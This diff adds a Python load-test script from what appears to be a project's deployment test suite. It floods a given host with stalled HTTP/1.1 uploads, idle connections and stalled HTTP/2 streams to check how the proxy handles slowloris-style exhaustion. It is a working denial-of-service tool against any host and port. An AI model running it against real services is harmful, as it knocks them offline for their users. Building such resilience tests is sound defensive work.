@@ -1,0 +1,254 @@
+"""
+The senders of the attack: stalled uploads, idle connections and stalled HTTP/2 streams, each replaced as soon as it ends.
+
+A process of its own, so that its work does not delay the payments that are measured. It prints its counts every second.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import functools
+import itertools
+import json
+import resource
+import time
+from collections import Counter
+from collections.abc import Awaitable, Callable, Iterator
+from contextlib import contextmanager, suppress
+from dataclasses import dataclass, field
+
+from tests.deployment.http2 import (
+    ACK,
+    DATA,
+    END_STREAM,
+    GOAWAY,
+    HEADERS,
+    PING,
+    PREFACE,
+    RST_STREAM,
+    SETTINGS,
+    data_frame,
+    frame,
+    headers_frame,
+    read_status,
+)
+from tests.deployment.standing import Door
+
+UPLOADS, IDLE, STREAMS = "stalled uploads", "idle connections", "stalled streams"
+STREAMS_PER_CONNECTION = 5
+"""The server's window for a connection holds the bodies of so many."""
+DELIVERY_BYTES, UPDATE_BYTES = 128 * 1024, 256 * 1024
+"""The limits of the two routes."""
+MISSING_BYTES = 1024
+"""The sender of a stalled body keeps back so much of it."""
+FRAME_BYTES = 16 * 1024
+WINDOW_UPDATE = 0x8
+FIRST_WINDOW = 65_535
+RETRY_SECONDS = 0.2
+SIGNATURE = "5" * 64
+
+
+@dataclass
+class Counts:
+    held: Counter[str] = field(default_factory=Counter)
+    """Now."""
+    ended: Counter[str] = field(default_factory=Counter)
+    """By kind and by how the proxy ended them."""
+    longest_seconds: Counter[str] = field(default_factory=Counter)
+    """Of those that ended, by kind."""
+    uploads_begun: int = 0
+    uploaders: set[Upload] = field(default_factory=set)
+    """The senders that have begun at least one upload."""
+
+    @contextmanager
+    def holding(self, kind: str) -> Iterator[None]:
+        began = time.monotonic()
+        self.held[kind] += 1
+        try:
+            yield
+        finally:
+            self.held[kind] -= 1
+            self.longest_seconds[kind] = max(self.longest_seconds[kind], int(time.monotonic() - began))
+
+    def to_json(self) -> str:
+        return json.dumps(vars(self) | {"uploaders": len(self.uploaders)})
+
+
+@dataclass(frozen=True)
+class Upload:
+    """A POST of the maximum size that stops shortly before its end, as one sender repeats it."""
+
+    sender: int
+    path: str
+    size: int
+    headers: str
+    chunked: bool
+
+    def to_bytes(self) -> bytes:
+        framing = "Transfer-Encoding: chunked" if self.chunked else f"Content-Length: {self.size}"
+        head = f"POST {self.path} HTTP/1.1\r\nHost: localhost\r\n{self.headers}\r\n{framing}\r\n\r\n"
+        return head.encode() + (b"%x\r\n" % self.size if self.chunked else b"") + b"x" * (self.size - MISSING_BYTES)
+
+
+def uploads(telegram_secret: str) -> Iterator[Upload]:
+    """Half to each route; of those to the bot, every second one knows Telegram's secret, so that the bot reads its body."""
+    for number in itertools.count():
+        chunked = number % 4 >= 2
+        if number % 2 == 0:
+            yield Upload(number, "/bmc-webhook", DELIVERY_BYTES, f"X-Signature-Sha256: {SIGNATURE}", chunked)
+        else:
+            secret = telegram_secret if number % 8 < 4 else SIGNATURE
+            yield Upload(
+                number, "/telegram-webhook", UPDATE_BYTES, f"X-Telegram-Bot-Api-Secret-Token: {secret}", chunked
+            )
+
+
+async def hold_upload(door: Door, counts: Counts, upload: Upload) -> None:
+    """Stall until the proxy closes the connection, whatever it answers before."""
+    reader, writer = await door.connect("http/1.1")
+    counts.uploads_begun += 1
+    counts.uploaders.add(upload)
+    try:
+        with counts.holding(UPLOADS):
+            writer.write(upload.to_bytes())
+            answer = await read_to_end(reader)
+        counts.ended[f"{UPLOADS}: {answer[9:12].decode() or 'closed unanswered'}"] += 1
+    finally:
+        writer.transport.abort()
+
+
+async def hold_idle(door: Door, counts: Counts, protocol: str) -> None:
+    """Ask for something, and then for nothing more."""
+    reader, writer = await door.connect(protocol)
+    try:
+        if protocol == "h2":
+            headers = {":method": "GET", ":scheme": "https", ":authority": "localhost", ":path": "/nothing"}
+            writer.write(PREFACE + frame(SETTINGS, 0, 0) + headers_frame(headers, ends_stream=True))
+            await read_status(reader, writer)
+        else:
+            writer.write(b"GET /nothing HTTP/1.1\r\nHost: localhost\r\n\r\n")
+            await reader.readuntil(b"\r\n\r\n")
+        with counts.holding(IDLE):
+            await read_to_end(reader)
+        counts.ended[f"{IDLE}: closed"] += 1
+    finally:
+        writer.transport.abort()
+
+
+async def read_to_end(reader: asyncio.StreamReader) -> bytes:
+    """Return what came first, once the other side has closed the connection."""
+    first = b""
+    with suppress(ConnectionError):
+        while received := await reader.read(FRAME_BYTES):
+            first = first or received
+    return first
+
+
+class StalledStreams:
+    """One HTTP/2 connection on which all streams stall. It keeps to the server's windows, as a server would end it otherwise."""
+
+    def __init__(self, counts: Counts) -> None:
+        self._counts = counts
+        self._open: dict[int, float] = {}
+        self._numbers = itertools.count(1, 2)
+        self._window = FIRST_WINDOW
+
+    async def hold(self, door: Door) -> None:
+        reader, writer = await door.connect("h2")
+        writer.write(PREFACE + frame(SETTINGS, 0, 0))
+        try:
+            while True:
+                head = await reader.readexactly(9)
+                payload = await reader.readexactly(int.from_bytes(head[:3]))
+                kind, flags, stream = head[3], head[4], int.from_bytes(head[5:])
+                if kind in (SETTINGS, PING) and not flags & ACK:
+                    writer.write(frame(kind, ACK, 0, payload if kind == PING else b""))
+                elif kind == WINDOW_UPDATE and stream == 0:
+                    self._window += int.from_bytes(payload)
+                elif kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM):
+                    self._end(stream)
+                elif kind == GOAWAY:
+                    return
+                while len(self._open) < STREAMS_PER_CONNECTION and self._window >= DELIVERY_BYTES:
+                    self._begin(writer)
+        finally:
+            for stream in list(self._open):
+                self._end(stream)
+            writer.transport.abort()
+
+    def _begin(self, writer: asyncio.StreamWriter) -> None:
+        stream = next(self._numbers)
+        headers = {
+            ":method": "POST",
+            ":scheme": "https",
+            ":authority": "localhost",
+            ":path": "/bmc-webhook",
+            "x-signature-sha256": SIGNATURE,
+            "content-length": str(DELIVERY_BYTES),
+        }
+        body = b"x" * (DELIVERY_BYTES - MISSING_BYTES)
+        writer.write(headers_frame(headers, stream=stream))
+        for start in range(0, len(body), FRAME_BYTES):
+            writer.write(data_frame(body[start : start + FRAME_BYTES], stream=stream))
+        self._window -= len(body)
+        self._open[stream] = time.monotonic()
+        self._counts.held[STREAMS] += 1
+
+    def _end(self, stream: int) -> None:
+        began = self._open.pop(stream, None)
+        if began is None:
+            return
+        self._counts.held[STREAMS] -= 1
+        self._counts.ended[f"{STREAMS}: ended"] += 1
+        longest = self._counts.longest_seconds
+        longest[STREAMS] = max(longest[STREAMS], int(time.monotonic() - began))
+
+
+async def persist(counts: Counts, kind: str, hold: Callable[[], Awaitable[None]]) -> None:
+    """Begin again whenever it ends."""
+    while True:
+        try:
+            await hold()
+        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError) as error:
+            counts.ended[f"{kind}: {type(error).__name__}"] += 1
+            await asyncio.sleep(RETRY_SECONDS)
+
+
+async def flood(door: Door, *, uploading: int, idle: int, streams: int, telegram_secret: str) -> None:
+    counts = Counts()
+    async with asyncio.TaskGroup() as senders:
+        for number in range(idle):
+            protocol = ("http/1.1", "h2")[number % 2]
+            senders.create_task(persist(counts, IDLE, functools.partial(hold_idle, door, counts, protocol)))
+        for _ in range(0, streams, STREAMS_PER_CONNECTION):
+            senders.create_task(persist(counts, STREAMS, lambda: StalledStreams(counts).hold(door)))
+        for upload, _ in zip(uploads(telegram_secret), range(uploading), strict=False):
+            senders.create_task(persist(counts, UPLOADS, functools.partial(hold_upload, door, counts, upload)))
+        while True:
+            print(counts.to_json(), flush=True)
+            await asyncio.sleep(1)
+
+
+if __name__ == "__main__":
+    words = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    words.add_argument("host")
+    words.add_argument("port", type=int)
+    words.add_argument("--uploads", type=int, required=True)
+    words.add_argument("--idle", type=int, required=True)
+    words.add_argument("--streams", type=int, required=True)
+    words.add_argument("--telegram-secret", required=True)
+    words.add_argument("--at-once", type=int, default=20)
+    given = words.parse_args()
+    # One descriptor for each connection; the usual soft limit is 1024.
+    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
+    with suppress(KeyboardInterrupt):
+        asyncio.run(
+            flood(
+                Door(given.port, given.host, asyncio.Semaphore(given.at_once)),
+                uploading=given.uploads,
+                idle=given.idle,
+                streams=given.streams,
+                telegram_secret=given.telegram_secret,
+            )
+        )
